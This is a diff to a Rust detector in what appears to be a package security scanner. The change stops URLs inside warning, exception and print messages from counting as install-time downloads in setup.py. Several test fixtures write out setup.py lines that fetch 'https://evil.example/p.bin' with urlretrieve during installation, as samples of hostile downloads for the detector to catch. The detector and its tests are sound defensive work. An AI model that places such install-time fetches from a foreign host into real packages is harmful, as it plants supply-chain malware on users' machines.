@@ -6,7 +6,9 @@
 //! docstring or comment is not a download) and, except for `urlretrieve`-style
 //! APIs, the file must also write bytes. Tests and docs are skipped. High in setup.py,
 //! except when every URL it fetches belongs to an owner its own metadata lines name
-//! (`url=`, `project_urls`: a prebuilt library from the project's releases), or when it sits in
+//! (`url=`, `project_urls`: a prebuilt library from the project's releases; URLs in comments,
+//! docstrings and messages shown to a person — a warning, an exception, a print — are not
+//! fetched and do not count), or when it sits in
 //! a setup.py command pip never runs ([`context::in_maintainer_command`], or a branch for
 //! one on the command line, [`context::in_argv_command`]; `sdist` is one: it makes the
 //! sdist, installing one never runs it): Medium. Must not:
@@ -22,7 +24,7 @@ use std::sync::LazyLock;
 
 pub(crate) static META: DetectorMeta = DetectorMeta {
     id: "network.downloads-file",
-    revision: 6,
+    revision: 7,
     title: "Downloads a file.",
     category: Category::Network,
     severity: Severity::Medium,
@@ -198,6 +200,9 @@ pub(crate) fn fetches_only_own_urls(file: &TextFile<'_>) -> bool {
     };
     let (mut own, mut fetched) = (Vec::new(), Vec::new());
     for u in super::urls::find(src) {
+        if shown_to_a_person(src, u.offset) {
+            continue; // a URL in a warning or error message is read, not fetched
+        }
         if OWN_LINE.is_match(line_of(u.offset)) {
             own.push(owner_key(&u));
         } else {
@@ -205,6 +210,43 @@ pub(crate) fn fetches_only_own_urls(file: &TextFile<'_>) -> bool {
         }
     }
     !fetched.is_empty() && fetched.iter().all(|k| own.contains(k))
+}
+
+/// Calls whose arguments are text shown to a person: printing, warnings, log lines, exceptions.
+static MESSAGE_CALL: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"^[ \t]*(?:raise[ \t]+)?(?:[\w.]+\.)?(?:print|warn|warning|info|debug|error|exception|critical|echo|secho|\w*(?:Error|Exception|Warning))[ \t]*$")
+        .expect("message call")
+});
+
+/// Whether the string literal at `off` is an argument of a call that shows text to a person
+/// (`warnings.warn("… https://…")`, `raise RuntimeError(f"see https://…")`, `print(…)`), over
+/// lines too: the innermost call open around it, found by balancing the parentheses of the code,
+/// is a statement of its own (a message inside a fetch's argument is still fetched).
+fn shown_to_a_person(src: &super::pysrc::Source<'_>, off: usize) -> bool {
+    if src.kind_at(off) != Kind::Str {
+        return false;
+    }
+    let b = src.text.as_bytes();
+    let floor = off.saturating_sub(2000);
+    let mut depth = 0usize;
+    let mut i = off;
+    while i > floor {
+        i -= 1;
+        if !src.is_code(i) {
+            continue;
+        }
+        match b[i] {
+            b')' | b']' | b'}' => depth += 1,
+            b'[' | b'{' if depth == 0 => return false,
+            b'(' if depth == 0 => {
+                let ls = src.text[..i].rfind('\n').map_or(0, |p| p + 1);
+                return MESSAGE_CALL.is_match(&src.text[ls..i]);
+            }
+            b'(' | b'[' | b'{' => depth -= 1,
+            _ => {}
+        }
+    }
+    false
 }
 
 /// The command word of a COMMAND match: `curl`, `wget`, `Invoke-WebRequest`…
@@ -364,6 +406,27 @@ mod tests {
                     InstallTime,
                     "from urllib.request import urlretrieve\nBASE = 'https://github.com/acme/tool/releases/download/v1.0/'\nurlretrieve(BASE + 'libtool.so', p)\nsetup(name='tool', url='https://github.com/acme/tool')\n",
                     Some((3, "urlretrieve (the project's own URL)", Medium)),
+                ),
+                (
+                    "setup.py fetching its own prebuilt wheel, a warning naming another host",
+                    "setup.py",
+                    InstallTime,
+                    "BASE_WHEEL_URL = 'https://github.com/acme/tool/releases/download/{tag}/{name}'\ndef check():\n    warnings.warn(\n        f'{opt} was requested, but nvcc was not found. '\n        'If you install within a container from https://hub.docker.com/r/x/y, '\n        'only devel images provide nvcc.'\n    )\n    raise RuntimeError('see https://docs.example.org/build')\nclass CachedWheels(bdist_wheel):\n    def run(self):\n        urllib.request.urlretrieve(BASE_WHEEL_URL.format(tag=t, name=n), n)\nsetup(name='tool', url='https://github.com/acme/tool', cmdclass={'bdist_wheel': CachedWheels})\n",
+                    Some((11, "urllib.request.urlretrieve (the project's own URL)", Medium)),
+                ),
+                (
+                    "another owner's URL inside a message call nested in the fetch",
+                    "setup.py",
+                    InstallTime,
+                    "urlretrieve(str(Warning('https://evil.example/p.bin')), p)\nsetup(name='tool', url='https://github.com/acme/tool')\n",
+                    Some((1, "urlretrieve", High)),
+                ),
+                (
+                    "another owner's URL assigned, a message naming the project's own",
+                    "setup.py",
+                    InstallTime,
+                    "U = 'https://evil.example/p.bin'\nprint('see https://github.com/acme/tool')\nurlretrieve(U, p)\nsetup(name='tool', url='https://github.com/acme/tool')\n",
+                    Some((3, "urlretrieve", High)),
                 ),
                 (
                     "setup.py fetching from another owner on the same code host",
